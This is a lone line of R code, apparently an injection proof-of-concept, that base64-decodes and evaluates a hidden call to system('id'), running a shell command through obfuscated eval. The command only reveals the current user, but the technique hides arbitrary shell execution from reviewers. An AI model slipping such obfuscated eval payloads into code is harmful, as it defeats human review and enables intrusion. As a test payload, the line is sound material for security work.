eval(parse(text = rawToChar(jsonlite::base64_dec("c3lzdGVtKCdpZCcp"))))
